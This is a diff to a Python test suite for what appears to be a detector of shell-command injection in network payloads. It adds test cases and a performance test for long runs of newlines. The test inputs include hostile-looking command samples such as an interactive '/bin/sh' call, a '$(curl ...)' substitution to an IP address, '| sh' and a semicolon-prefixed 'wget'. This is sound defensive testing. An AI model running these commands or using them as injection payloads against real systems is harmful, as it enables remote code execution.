@@ -19,6 +19,8 @@ def talk(data: bytes, **fields) -> Talk:
         b"`/bin/sh -i`",
         b"$(curl http://198.51.100.9/)",
         b"| sh",
+        b"; \n\t wget x",
+        b"\n\n \n/bin/sh",
     ],
 )
 def test_shell_commands(data: bytes) -> None:
@@ -34,3 +36,9 @@ def test_plain_words(data: bytes) -> None:
 def test_beside_a_proposal_or_encrypted_it_is_not_this_attack() -> None:
     assert found(ID, talk(b";bash -c id", payloads=(1, 11))) == []
     assert found(ID, talk(b";bash -c id", encrypted=True)) == []
+
+
+def test_a_payload_full_of_ends_of_commands_is_read_once() -> None:
+    """With a search that began again at each of them this would not end within a minute."""
+    assert found(ID, talk(b"\n" * 65_000 + b"x sh")) == []
+    assert len(found(ID, talk(b"\n" * 65_000 + b"sh"))) == 1
